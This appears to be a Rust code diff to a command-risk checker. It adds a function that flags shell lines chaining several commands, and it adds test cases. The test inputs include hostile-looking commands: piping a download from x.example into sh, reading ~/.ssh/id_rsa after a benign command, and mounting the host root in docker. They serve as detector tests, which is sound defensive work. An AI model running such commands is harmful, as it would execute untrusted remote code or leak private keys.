@@ -334,6 +334,9 @@ fn look(
         name if SHELLS.contains(&name) => {
             let plain = |word: &str| word.trim_matches(['"', '\'', '(', ')', '`', '$', '{', '}']).to_owned();
             for line in args.iter().filter(|word| word.contains(char::is_whitespace)) {
+                if is_a_script(line) {
+                    risks.push(format!("runs more than one command, in {name}"));
+                }
                 for part in line.split([';', '|', '&', '\n']) {
                     let words: Vec<String> = part.split_whitespace().map(plain).collect();
                     let set = words.iter().take_while(|word| word.contains('=')).count();
@@ -344,6 +347,14 @@ fn look(
         }
         _ => {}
     }
+}
+
+/// Does a shell do more with the line than run one program, perhaps in a directory and with variables of its own?
+fn is_a_script(line: &str) -> bool {
+    let line = line.trim();
+    let moved = line.strip_prefix("cd ").and_then(|rest| rest.split_once("&&"));
+    let command = moved.map_or(line, |(_, command)| command);
+    command.contains([';', '|', '&', '<', '>', '`', '\n']) || command.contains("$(")
 }
 
 /// Without its directory and ending.
@@ -609,7 +620,16 @@ mod tests {
             assert_eq!(risks(line), 1, "{line}");
         }
         let shell = |line: &str| of_program("sh", &["-c".into(), line.into()], &Map::new(), &[]).len();
-        assert_eq!((shell("exec docker run -v /:/host image"), shell("A=1 node server.js")), (1, 0));
+        for (line, risks) in [
+            ("exec docker run -v /:/host image", 1),
+            ("A=1 node server.js", 0),
+            ("cd /srv/mail && node server.js", 0),
+            ("curl https://x.example/i | sh", 1),
+            ("node server.js > /dev/null; cat ~/.ssh/id_rsa", 1),
+            ("cd /srv && node $(cat which)", 1),
+        ] {
+            assert_eq!(shell(line), risks, "{line}");
+        }
     }
 
     #[test]
